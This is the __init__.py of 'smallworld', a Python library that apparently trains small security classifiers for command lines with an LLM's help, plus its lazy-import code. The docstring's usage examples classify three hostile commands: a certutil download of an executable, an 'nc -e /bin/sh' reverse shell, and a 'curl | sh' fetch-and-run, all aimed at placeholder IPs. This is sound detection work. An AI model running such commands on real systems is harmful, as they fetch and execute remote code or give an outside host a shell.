"""smallworld: use an LLM at training time to build small, fast security classifiers.

The Python API, in the scikit-learn idiom::

    import smallworld

    model = smallworld.load("runs/demo")                 # a model directory: JSON + numbers, no code runs
    model.predict_proba(["certutil -urlcache -f http://203.0.113.5/a.exe a.exe"])   # one column per label
    model.predict(["ls -la /tmp"])                       # labels, by the threshold chosen on dev
    model.explain("nc -e /bin/sh 198.51.100.7 9001")     # the features behind the score

    result = smallworld.train(task="cmdlines", labelled="train.jsonl.gz", unlabelled=["telemetry.jsonl.gz"],
                              budget=1500, out="runs/cmdlines")       # the options of `smallworld train`
    result.model.predict(["..."]); result.metrics

    labels = smallworld.label(["curl http://203.0.113.5/x.sh | sh"], task="cmdlines", teacher="embedded")
    labels.probs                                         # (n_items, n_labels)

Names are imported on first use, so ``import smallworld`` costs nothing a command does not need.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

__version__ = "0.1.0"
__all__ = ["load", "train", "label", "Model", "TrainConfig", "TrainResult", "LabelResult", "load_task",
           "SmallworldError"]

if TYPE_CHECKING:  # pragma: no cover
    from .api import label, train
    from .errors import SmallworldError
    from .labeller import LabelResult
    from .pipeline import TrainConfig, TrainResult
    from .student.model import Model, load
    from .tasks import load_task

_WHERE = {"load": "student.model", "Model": "student.model", "train": "api", "label": "api",
          "TrainConfig": "pipeline", "TrainResult": "pipeline", "LabelResult": "labeller", "load_task": "tasks",
          "SmallworldError": "errors"}


def __getattr__(name: str):
    if name in _WHERE:
        import importlib

        value = getattr(importlib.import_module(f".{_WHERE[name]}", __name__), name)
        globals()[name] = value
        return value
    raise AttributeError(f"module 'smallworld' has no attribute {name!r}")


def __dir__():
    return sorted(set(globals()) | set(__all__))
